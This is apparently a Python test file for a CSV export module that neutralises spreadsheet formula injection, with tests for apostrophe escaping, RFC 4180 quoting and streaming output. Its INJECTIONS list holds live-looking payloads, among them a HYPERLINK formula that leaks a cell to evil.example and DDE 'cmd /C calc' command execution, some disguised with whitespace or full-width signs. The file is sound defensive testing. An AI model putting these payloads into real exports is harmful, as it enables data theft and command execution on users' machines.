"""CSV that a spreadsheet opens without running anything."""

from __future__ import annotations

import csv as standard
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconciler.report import csv

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import",
    '=DDE("cmd";"/C calc";"x")',
    "+49 30 1234",
    "-",
    "--1",
    "-1-1",
    "-1e5",
    "- 1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "\rtext",
    "\ntext",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    " \t=1",
    " -5",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " ＝1",
]

HARMLESS = [
    "",
    " ",
    "Ada",
    "a=b",
    "1+1",
    "a@example.com",
    "'=1+1",
    '"=1+1"',
    "0",
    "12",
    "-5",
    "-5.25",
    "12.50",
    "#REF!",
    "Grün",
    "a\tb\nc",
    ".5",
    "*",
    "\\=1",
]

SIGNS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("cell", INJECTIONS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert csv.safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert csv.safe(cell) == cell


@given(st.text(alphabet="=+-@\t\r\n＝＋－＠ \u00a0\ufeff\"',;|1.a") | st.text())
def test_no_cell_begins_like_a_formula_unless_it_is_a_plain_number(cell: str) -> None:
    safe = csv.safe(cell)
    assert safe in (cell, "'" + cell)
    if safe.lstrip(" \u00a0\ufeff").startswith(SIGNS):
        assert float(safe) <= 0
        assert set(safe) <= set("-0123456789.")


@given(st.decimals(-(10**12), 10**12, places=3).map(str) | st.integers().map(str))
def test_plain_numbers_can_be_calculated_with(cell: str) -> None:
    assert csv.safe(cell) == cell


cells = st.text() | st.text(alphabet=",\"\r\n; a'=")
rows = st.lists(st.tuples(cells, cells, cells), max_size=6)


def read(text: str) -> list[tuple[str, ...]]:
    return [tuple(row) for row in standard.reader(io.StringIO(text, newline=""), strict=True)]


@given(rows)
def test_python_reads_the_same_rows_back(found: list[tuple[str, str, str]]) -> None:
    assert read("".join(csv.lines(("A", "B,C", 'D"'), found, raw=True))) == [("A", "B,C", 'D"'), *found]


@given(rows)
def test_cells_are_made_safe_unless_raw_is_asked_for(found: list[tuple[str, str, str]]) -> None:
    assert read("".join(csv.lines(("A", "B", "C"), found)))[1:] == [tuple(map(csv.safe, row)) for row in found]


@given(rows)
def test_every_record_is_one_piece_that_ends_in_a_line_break(found: list[tuple[str, str, str]]) -> None:
    pieces = list(csv.lines(("A", "B", "C"), found))
    assert len(pieces) == len(found) + 1
    assert all(piece.endswith("\r\n") for piece in pieces)


def test_quoting_is_that_of_rfc_4180() -> None:
    line = list(csv.lines(("A",), [("a,b", 'say "hi"', "two\r\nlines", "plain")], raw=True))[1]
    assert line == '"a,b","say ""hi""","two\r\nlines",plain\r\n'


def test_lines_are_made_one_at_a_time() -> None:
    def endless() -> object:
        while True:
            yield ("1", "2")

    lines = csv.lines(("A", "B"), endless())  # type: ignore[arg-type]
    assert [next(lines), next(lines)] == ["A,B\r\n", "1,2\r\n"]


def test_the_columns_of_the_export_are_those_that_admins_know() -> None:
    assert csv.EXPORT_HEAD == ("User ID", "User Name", "CC User Profile Field", "Value", "Status")
